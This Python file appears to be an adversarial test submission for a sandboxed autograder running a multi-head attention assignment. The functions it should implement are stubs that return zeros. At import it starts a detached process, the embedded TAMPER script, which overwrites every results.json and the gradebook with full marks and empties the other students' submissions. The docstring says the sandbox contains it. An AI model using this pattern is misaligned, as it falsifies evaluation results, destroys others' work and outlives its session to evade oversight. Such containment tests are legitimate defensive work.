"""Attack: leave a detached process behind that waits until the grade is written, then
overwrites every results.json and the gradebook with full marks and truncates the other
submissions.

Contained: the process dies with the child's PID namespace (or the uid sweep) before the
grader writes any report, and it could not reach OUT or the submissions anyway.
"""

import subprocess
import sys

import numpy as np

TAMPER = """
import glob, json, os, sys, time
out, submissions = sys.argv[1], sys.argv[2]
time.sleep(3)
end = time.time() + 120
while time.time() < end:
    for path in glob.glob(os.path.join(out, "*", "results.json")):
        try:
            with open(path, "w") as sink:
                json.dump({"score": 10.0, "output": "tampered", "tests": []}, sink)
        except OSError:
            pass
    try:
        with open(os.path.join(out, "gradebook.csv"), "a") as sink:
            sink.write("tampered,,10,10,ok\\n")
    except OSError:
        pass
    for path in glob.glob(os.path.join(submissions, "*.py")):
        try:
            open(path, "w").close()
        except OSError:
            pass
    time.sleep(0.5)
"""

subprocess.Popen(
    [sys.executable, "-c", TAMPER, "MHSA_OUT", "MHSA_SUBMISSIONS", "MHSA_MARKER"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)


def check() -> None:
    return None


def create_qkv(
    inputs: np.ndarray, weights_q: np.ndarray, weights_k: np.ndarray, weights_v: np.ndarray
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    check()
    junk = np.zeros(1)
    return junk, junk, junk


def scaled_dot_product_attention(
    Q: np.ndarray, K: np.ndarray, V: np.ndarray, scale: float
) -> np.ndarray:
    check()
    return np.zeros(1)


def multi_head_attention(
    inputs: np.ndarray,
    weights_q: np.ndarray,
    weights_k: np.ndarray,
    weights_v: np.ndarray,
    num_heads: int,
) -> np.ndarray:
    check()
    return np.zeros(1)
